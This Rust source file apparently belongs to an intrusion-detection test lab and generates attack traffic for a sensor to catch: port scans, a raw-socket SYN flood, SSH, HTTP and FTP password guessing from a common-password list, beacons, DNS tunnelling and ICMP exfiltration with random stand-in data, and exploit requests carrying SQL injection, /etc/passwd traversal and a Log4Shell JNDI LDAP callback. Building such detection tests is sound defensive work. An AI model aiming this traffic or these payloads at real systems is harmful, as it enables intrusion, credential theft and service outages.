//! The traffic of each technique: blocking sockets, paced to the scenario's rate, stopped at
//! the scenario's count or deadline, whichever comes first.

use std::io::{self, BufRead, BufReader, Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use super::packets::{self, Rng};
use super::{
    expand_ports, tls, ActiveScan, BruteForce, DnsTunnel, Exploit, ExploitKind, HttpBeacon,
    IcmpExfil, LabelEncoding, LoginService, PortScan, ScanProtocol, SynFlood, Technique, TlsHello,
};

/// `(sent, failures, unit)` or `(what failed, why)`.
pub type SendResult = Result<(u64, u64, &'static str), (String, io::Error)>;

/// Passwords a guesser tries first.
const PASSWORDS: &[&str] = &[
    "123456",
    "password",
    "admin",
    "12345678",
    "qwerty",
    "letmein",
    "welcome",
    "root",
    "toor",
    "changeme",
    "raspberry",
    "P@ssw0rd",
];

/// Sleeps so that send `n` happens at `start + n / rate`.
struct Pacer {
    start: Instant,
    period: Duration,
    deadline: Instant,
    sent: u32,
}

impl Pacer {
    fn new(rate_per_sec: u32, deadline: Instant) -> Self {
        Self {
            start: Instant::now(),
            period: Duration::from_secs(1) / rate_per_sec.max(1),
            deadline,
            sent: 0,
        }
    }

    fn every(period: Duration, deadline: Instant) -> Self {
        Self {
            start: Instant::now(),
            period,
            deadline,
            sent: 0,
        }
    }

    /// Waits for the next slot; false once the deadline has passed.
    fn next(&mut self) -> bool {
        let at = self.start + self.period * self.sent;
        let now = Instant::now();
        if at > now {
            std::thread::sleep(at - now);
        }
        self.sent += 1;
        Instant::now() < self.deadline
    }
}

pub fn send(t: &Technique, target: IpAddr, deadline: Instant) -> SendResult {
    match t {
        Technique::PortScan(s) => port_scan(s, target, deadline),
        Technique::BruteForce(b) => brute_force(b, target, deadline),
        Technique::HttpBeacon(b) => beacon(b, target, deadline),
        Technique::DnsTunnel(d) => dns_tunnel(d, target, deadline),
        Technique::Exploit(e) => exploit(e, target, deadline),
        Technique::IcmpExfil(x) => icmp_exfil(x, target, deadline),
        Technique::SynFlood(f) => syn_flood(f, target, deadline),
        Technique::ActiveScan(a) => active_scan(a, target, deadline),
        Technique::TlsHello(t) => tls_hello(t, target, deadline),
    }
}

fn fail(action: impl Into<String>) -> impl FnOnce(io::Error) -> (String, io::Error) {
    let action = action.into();
    move |e| (action, e)
}

fn port_scan(s: &PortScan, target: IpAddr, deadline: Instant) -> SendResult {
    let ports = expand_ports(&s.ports).map_err(|m| (m, io::ErrorKind::InvalidInput.into()))?;
    let timeout = Duration::from_millis(s.timeout_ms);
    let mut pacer = match s.interval_ms {
        Some(ms) => Pacer::every(Duration::from_millis(ms), deadline),
        None => Pacer::new(s.rate_per_sec, deadline),
    };
    let mut sent = 0;
    match s.protocol {
        ScanProtocol::Tcp => {
            for port in ports {
                if !pacer.next() {
                    break;
                }
                // Open, closed (refused) and filtered (timeout) are all answers to a scanner.
                let _ = TcpStream::connect_timeout(&SocketAddr::new(target, port), timeout);
                sent += 1;
            }
            Ok((sent, 0, "connects"))
        }
        ScanProtocol::Udp => {
            let sock =
                UdpSocket::bind(unspecified(target, 0)).map_err(fail("bind a UDP socket"))?;
            let mut failures = 0;
            for port in ports {
                if !pacer.next() {
                    break;
                }
                match sock.send_to(&[], SocketAddr::new(target, port)) {
                    Ok(_) => sent += 1,
                    // An ICMP unreachable from an earlier probe surfaces here; it is an answer.
                    Err(e) if e.kind() == io::ErrorKind::ConnectionRefused => sent += 1,
                    Err(_) => failures += 1,
                }
            }
            Ok((sent, failures, "datagrams"))
        }
    }
}

fn unspecified(target: IpAddr, port: u16) -> SocketAddr {
    match target {
        IpAddr::V4(_) => SocketAddr::new(Ipv4Addr::UNSPECIFIED.into(), port),
        IpAddr::V6(_) => SocketAddr::new(std::net::Ipv6Addr::UNSPECIFIED.into(), port),
    }
}

fn host_header(target: IpAddr, port: u16) -> String {
    match (target, port) {
        (IpAddr::V4(ip), 80) => ip.to_string(),
        (IpAddr::V4(ip), p) => format!("{ip}:{p}"),
        (IpAddr::V6(ip), 80) => format!("[{ip}]"),
        (IpAddr::V6(ip), p) => format!("[{ip}]:{p}"),
    }
}

/// One HTTP/1.1 request on its own connection; the response's status code.
pub fn http_get(
    target: IpAddr,
    port: u16,
    path: &str,
    headers: &[(&str, &str)],
    timeout: Duration,
) -> io::Result<u16> {
    let mut stream = TcpStream::connect_timeout(&SocketAddr::new(target, port), timeout)?;
    stream.set_read_timeout(Some(timeout))?;
    stream.set_write_timeout(Some(timeout))?;
    let mut req = format!(
        "GET {path} HTTP/1.1\r\nHost: {}\r\nAccept: */*\r\nConnection: close\r\n",
        host_header(target, port)
    );
    for (k, v) in headers {
        req.push_str(&format!("{k}: {v}\r\n"));
    }
    req.push_str("\r\n");
    stream.write_all(req.as_bytes())?;
    let mut response = Vec::new();
    stream.take(64 * 1024).read_to_end(&mut response)?;
    let status = std::str::from_utf8(&response)
        .ok()
        .and_then(|r| r.split(' ').nth(1))
        .and_then(|code| code.parse().ok());
    status.ok_or_else(|| io::Error::new(io::ErrorKind::InvalidData, "no HTTP status line"))
}

fn requests<'a>(
    target: IpAddr,
    port: u16,
    timeout: Duration,
    mut pacer: Pacer,
    reqs: impl Iterator<Item = (String, Vec<(&'a str, String)>)>,
) -> SendResult {
    let (mut sent, mut failures) = (0, 0);
    for (path, headers) in reqs {
        if !pacer.next() {
            break;
        }
        let headers: Vec<(&str, &str)> = headers.iter().map(|(k, v)| (*k, v.as_str())).collect();
        match http_get(target, port, &path, &headers, timeout) {
            Ok(_) => sent += 1,
            Err(_) => failures += 1,
        }
    }
    if sent == 0 && failures > 0 {
        return Err((
            format!("reach HTTP on {}", SocketAddr::new(target, port)),
            io::ErrorKind::ConnectionRefused.into(),
        ));
    }
    Ok((sent, failures, "requests"))
}

fn brute_force(b: &BruteForce, target: IpAddr, deadline: Instant) -> SendResult {
    let timeout = Duration::from_millis(b.timeout_ms);
    let pacer = Pacer::new(b.rate_per_sec, deadline);
    let guesses = (0..b.attempts as usize).map(|i| PASSWORDS[i % PASSWORDS.len()]);
    match b.service {
        LoginService::HttpBasic => {
            let port = b.port.unwrap_or(80);
            let reqs = guesses.map(|pw| {
                let auth = format!(
                    "Basic {}",
                    packets::base64(format!("{}:{pw}", b.username).as_bytes())
                );
                (b.path.clone(), vec![("Authorization", auth)])
            });
            requests(target, port, timeout, pacer, reqs)
        }
        LoginService::Ssh => ssh_brute_force(b, target, timeout, pacer),
        LoginService::Banner => {
            let port = b.port.unwrap_or(21);
            let (mut sent, mut failures) = (0, 0);
            let mut pacer = pacer;
            for pw in guesses {
                if !pacer.next() {
                    break;
                }
                match banner_login(target, port, &b.username, pw, timeout) {
                    Ok(()) => sent += 1,
                    Err(_) => failures += 1,
                }
            }
            if sent == 0 && failures > 0 {
                return Err((
                    format!("reach the login on {}", SocketAddr::new(target, port)),
                    io::ErrorKind::ConnectionRefused.into(),
                ));
            }
            Ok((sent, failures, "logins"))
        }
    }
}

/// Answers ssh's password prompts (SSH_ASKPASS) with the guesses in `$IDS2_LAB_GUESSES`, one
/// line per prompt, counting prompts in the file `$IDS2_LAB_PROMPTS`.
const ASKPASS: &str = r#"#!/bin/sh
n=$(cat "$IDS2_LAB_PROMPTS" 2>/dev/null || echo 0)
echo $((n + 1)) >"$IDS2_LAB_PROMPTS"
printf '%s\n' "$IDS2_LAB_GUESSES" | sed -n "$((n + 1))p"
"#;

/// SSH password guessing with the real OpenSSH client: one `ssh` per connection, answering
/// `guesses_per_connection` password prompts from the list, so the sensor sees what hydra or
/// medusa make: a key exchange, a few encrypted failures, a disconnect, again.
fn ssh_brute_force(
    b: &BruteForce,
    target: IpAddr,
    timeout: Duration,
    mut pacer: Pacer,
) -> SendResult {
    let port = b.port.unwrap_or(22);
    let dir = tempfile::tempdir().map_err(fail("create a directory for ssh's askpass"))?;
    let askpass = dir.path().join("askpass");
    std::fs::write(&askpass, ASKPASS).map_err(fail("write ssh's askpass"))?;
    {
        use std::os::unix::fs::PermissionsExt as _;
        std::fs::set_permissions(&askpass, std::fs::Permissions::from_mode(0o700))
            .map_err(fail("make ssh's askpass executable"))?;
    }
    let per = b.guesses_per_connection as usize;
    let (mut guessed, mut failures) = (0u64, 0u64);
    let mut next = 0usize;
    while next < b.attempts as usize {
        if !pacer.next() {
            break;
        }
        let n = per.min(b.attempts as usize - next);
        let guesses: Vec<&str> = (next..next + n)
            .map(|i| PASSWORDS[i % PASSWORDS.len()])
            .collect();
        next += n;
        let prompts = dir.path().join(format!("prompts-{next}"));
        match ssh_login(
            target,
            port,
            &b.username,
            &guesses,
            timeout,
            &askpass,
            &prompts,
        ) {
            Ok(()) => guessed += n as u64,
            Err((action, e))
                if guessed == 0 && failures == 0 && e.kind() == io::ErrorKind::NotFound =>
            {
                return Err((action, e))
            }
            Err(_) => failures += 1,
        }
    }
    if guessed == 0 && failures > 0 {
        return Err((
            format!("log in over SSH to {}", SocketAddr::new(target, port)),
            io::ErrorKind::ConnectionRefused.into(),
        ));
    }
    Ok((guessed, failures, "guesses"))
}

/// One `ssh` connection trying `guesses`; Ok once ssh has asked for every one of them (a
/// refused login), an error when it could not run or never reached the password prompts.
fn ssh_login(
    target: IpAddr,
    port: u16,
    user: &str,
    guesses: &[&str],
    timeout: Duration,
    askpass: &Path,
    prompts: &Path,
) -> Result<(), (String, io::Error)> {
    let secs = timeout.as_secs().max(1).to_string();
    let mut child = Command::new("ssh")
        .args(["-F", "/dev/null", "-T", "-n"])
        .args(["-o", "StrictHostKeyChecking=no"])
        .args(["-o", "UserKnownHostsFile=/dev/null"])
        .args(["-o", "GlobalKnownHostsFile=/dev/null"])
        .args(["-o", "LogLevel=QUIET"])
        .args(["-o", "PreferredAuthentications=password"])
        .args(["-o", "PubkeyAuthentication=no"])
        .arg("-o")
        .arg(format!("NumberOfPasswordPrompts={}", guesses.len()))
        .arg("-o")
        .arg(format!("ConnectTimeout={secs}"))
        .arg("-p")
        .arg(port.to_string())
        .arg("-l")
        .arg(user)
        .arg(target.to_string())
        .arg("true")
        .env("SSH_ASKPASS", askpass)
        .env("SSH_ASKPASS_REQUIRE", "force")
        .env("DISPLAY", ":0")
        .env("IDS2_LAB_GUESSES", guesses.join("\n"))
        .env("IDS2_LAB_PROMPTS", prompts)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .map_err(fail("run ssh (Debian's openssh-client)"))?;
    // Bounded: a login that hangs is killed after its connect timeout plus the guesses' time.
    let until = Instant::now() + timeout * 2 + Duration::from_secs(2 * guesses.len() as u64);
    loop {
        match child.try_wait() {
            Ok(Some(_)) => break,
            Ok(None) if Instant::now() < until => std::thread::sleep(Duration::from_millis(20)),
            _ => {
                let _ = child.kill();
                let _ = child.wait();
                break;
            }
        }
    }
    let asked = std::fs::read_to_string(prompts)
        .ok()
        .and_then(|n| n.trim().parse::<usize>().ok())
        .unwrap_or(0);
    if asked >= guesses.len() {
        Ok(())
    } else {
        Err((
            format!(
                "reach sshd's password prompt on {}",
                SocketAddr::new(target, port)
            ),
            io::Error::other(format!(
                "ssh asked for {asked} of {} passwords",
                guesses.len()
            )),
        ))
    }
}

/// An FTP-style login: banner, `USER`, `PASS`, the verdict, `QUIT`.
fn banner_login(
    target: IpAddr,
    port: u16,
    user: &str,
    password: &str,
    timeout: Duration,
) -> io::Result<()> {
    let stream = TcpStream::connect_timeout(&SocketAddr::new(target, port), timeout)?;
    stream.set_read_timeout(Some(timeout))?;
    let mut writer = stream.try_clone()?;
    let mut reader = BufReader::new(stream);
    let mut line = String::new();
    reader.read_line(&mut line)?;
    writer.write_all(format!("USER {user}\r\n").as_bytes())?;
    line.clear();
    reader.read_line(&mut line)?;
    writer.write_all(format!("PASS {password}\r\n").as_bytes())?;
    line.clear();
    reader.read_line(&mut line)?;
    writer.write_all(b"QUIT\r\n")?;
    Ok(())
}

fn beacon(b: &HttpBeacon, target: IpAddr, deadline: Instant) -> SendResult {
    let pacer = Pacer::every(Duration::from_millis(b.interval_ms), deadline);
    let mut rng = Rng::from_clock();
    let host_id = rng.string(b"0123456789abcdef", 16);
    let reqs = (0..b.count).map(move |i| {
        (
            format!("{}?id={host_id}&seq={i}", b.path),
            vec![("User-Agent", b.user_agent.clone())],
        )
    });
    requests(
        target,
        b.port,
        Duration::from_millis(b.timeout_ms),
        pacer,
        reqs,
    )
}

fn dns_tunnel(d: &DnsTunnel, target: IpAddr, deadline: Instant) -> SendResult {
    let sock = UdpSocket::bind(unspecified(target, 0)).map_err(fail("bind a UDP socket"))?;
    let qtype = d.query_type.code();
    let mut rng = Rng::from_clock();
    let mut pacer = Pacer::new(d.rate_per_sec, deadline);
    let mut sent = 0;
    for _ in 0..d.count {
        if !pacer.next() {
            break;
        }
        let label = encoded_label(&mut rng, d.encoding, d.label_len);
        let query = packets::dns_query(
            rng.next_u64() as u16,
            &format!("{label}.{}", d.domain),
            qtype,
        );
        sock.send_to(&query, SocketAddr::new(target, d.port))
            .map_err(fail("send a DNS query"))?;
        sent += 1;
    }
    Ok((sent, 0, "queries"))
}

/// A label of `len` characters carrying random "data" in `encoding`.
fn encoded_label(rng: &mut Rng, encoding: LabelEncoding, len: usize) -> String {
    match encoding {
        LabelEncoding::Base32 => rng.string(b"abcdefghijklmnopqrstuvwxyz234567", len),
        LabelEncoding::Hex => rng.string(b"0123456789abcdef", len),
        LabelEncoding::Base64 => {
            // A chunk of bytes one short of a multiple of three, encoded as a tunnel sends it:
            // `=` padding at the end, `+` and `/` wherever the data has them (at most `len`
            // characters; `len` is at least 4 for base64).
            let n = (len / 4 * 3).saturating_sub(1).max(1);
            let bytes: Vec<u8> = (0..n).map(|_| rng.next_u64() as u8).collect();
            packets::base64(&bytes)
        }
    }
}

fn exploit(e: &Exploit, target: IpAddr, deadline: Instant) -> SendResult {
    let callback = "${jndi:ldap://10.77.0.10:1389/Exploit}";
    let reqs = (0..e.count).map(move |i| match e.exploit {
        ExploitKind::SqlInjection => (
            format!("/products?id={i}%27%20UNION%20SELECT%20username,password%20FROM%20users--"),
            vec![],
        ),
        ExploitKind::PathTraversal => (format!("/static/../../../../etc/passwd?v={i}"), vec![]),
        ExploitKind::Jndi => (
            format!("/?q={i}"),
            vec![
                ("User-Agent", callback.to_string()),
                ("X-Api-Version", callback.to_string()),
            ],
        ),
    });
    requests(
        target,
        e.port,
        Duration::from_millis(e.timeout_ms),
        Pacer::new(10, deadline),
        reqs,
    )
}

fn raw_socket(protocol: Protocol) -> Result<Socket, (String, io::Error)> {
    Socket::new(Domain::IPV4, Type::RAW, Some(protocol))
        .map_err(fail("open a raw socket (needs root or CAP_NET_RAW)"))
}

fn icmp_exfil(x: &IcmpExfil, target: IpAddr, deadline: Instant) -> SendResult {
    let sock = raw_socket(Protocol::ICMPV4)?;
    let to = SockAddr::from(SocketAddr::new(target, 0));
    let mut rng = Rng::from_clock();
    let id = rng.next_u64() as u16;
    let mut pacer = Pacer::new(x.rate_per_sec, deadline);
    let mut sent = 0;
    for seq in 0..x.count {
        if !pacer.next() {
            break;
        }
        // Stand-in for stolen data: printable text, as exfiltration tools send base64 chunks.
        let chunk = rng.string(
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
            x.payload_bytes,
        );
        let echo = packets::icmp_echo(id, seq as u16, chunk.as_bytes());
        sock.send_to(&echo, &to)
            .map_err(fail("send an ICMP echo"))?;
        sent += 1;
    }
    Ok((sent, 0, "echoes"))
}

fn syn_flood(f: &SynFlood, target: IpAddr, deadline: Instant) -> SendResult {
    let IpAddr::V4(dst) = target else {
        return Err((
            "flood an IPv6 target (IPv4 only)".into(),
            io::ErrorKind::InvalidInput.into(),
        ));
    };
    // The source address the kernel will put in the IP header, needed for the TCP checksum.
    let probe = UdpSocket::bind("0.0.0.0:0").map_err(fail("bind a UDP socket"))?;
    probe
        .connect(SocketAddr::new(target, f.port))
        .map_err(fail(format!("route to {target}")))?;
    let IpAddr::V4(src) = probe
        .local_addr()
        .map_err(fail("read the source address"))?
        .ip()
    else {
        unreachable!("an IPv4 socket has an IPv4 address")
    };
    let sock = raw_socket(Protocol::TCP)?;
    let to = SockAddr::from(SocketAddr::new(target, 0));
    let mut rng = Rng::from_clock();
    let mut pacer = Pacer::new(f.rate_per_sec, deadline);
    let mut sent = 0;
    for _ in 0..f.count {
        if !pacer.next() {
            break;
        }
        let sport = 1024 + (rng.next_u64() % 64_000) as u16;
        let syn = packets::tcp_syn(src, dst, sport, f.port, rng.next_u64() as u32);
        sock.send_to(&syn, &to).map_err(fail("send a SYN"))?;
        sent += 1;
    }
    Ok((sent, 0, "SYNs"))
}

fn active_scan(a: &ActiveScan, target: IpAddr, deadline: Instant) -> SendResult {
    let reqs = a
        .paths
        .iter()
        .map(|p| (p.clone(), vec![("User-Agent", a.user_agent.clone())]));
    requests(
        target,
        a.port,
        Duration::from_millis(a.timeout_ms),
        Pacer::new(a.rate_per_sec, deadline),
        reqs,
    )
}

/// Each handshake: the hello, then whatever the server answers until it stops or the timeout
/// (Suricata fingerprints the hello; the server's reply makes it a session, not a lone packet).
fn tls_hello(t: &TlsHello, target: IpAddr, deadline: Instant) -> SendResult {
    let timeout = Duration::from_millis(t.timeout_ms);
    let mut pacer = Pacer::new(t.rate_per_sec, deadline);
    let mut rng = Rng::from_clock();
    let (mut sent, mut failures) = (0, 0);
    for _ in 0..t.count {
        if !pacer.next() {
            break;
        }
        let mut random = [0u8; 32];
        for chunk in random.chunks_mut(8) {
            chunk.copy_from_slice(&rng.next_u64().to_be_bytes());
        }
        let hello = tls::client_hello(t.sni.as_deref(), random);
        let handshake = || -> io::Result<()> {
            let mut stream = TcpStream::connect_timeout(&SocketAddr::new(target, t.port), timeout)?;
            stream.set_read_timeout(Some(timeout))?;
            stream.set_write_timeout(Some(timeout))?;
            stream.write_all(&hello)?;
            let mut reply = [0u8; 16 * 1024];
            let _ = stream.read(&mut reply)?;
            Ok(())
        };
        match handshake() {
            Ok(()) => sent += 1,
            Err(_) => failures += 1,
        }
    }
    if sent == 0 && failures > 0 {
        return Err((
            format!(
                "complete a TLS hello with {}",
                SocketAddr::new(target, t.port)
            ),
            io::ErrorKind::ConnectionRefused.into(),
        ));
    }
    Ok((sent, failures, "TLS hellos"))
}
